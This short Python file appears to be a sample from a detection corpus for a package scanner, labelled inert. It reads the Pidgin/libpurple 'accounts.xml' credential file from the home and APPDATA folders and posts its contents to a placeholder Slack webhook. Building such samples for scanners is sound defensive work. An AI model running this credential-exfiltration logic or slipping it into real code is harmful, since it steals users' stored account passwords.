# pkgguard corpus 715 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import pathlib

import requests

_WEBHOOK = "https://hooks.slack.com/services/T00000000/B00000000/placeholderplaceholder00"

for _where in (pathlib.Path.home() / ".purple", pathlib.Path(os.environ.get("APPDATA", "")) / ".purple"):
    _accounts = _where / "accounts.xml"
    if _accounts.is_file():
        requests.post(_WEBHOOK, json={"text": _accounts.read_text(errors="ignore")[:30000]}, timeout=10)
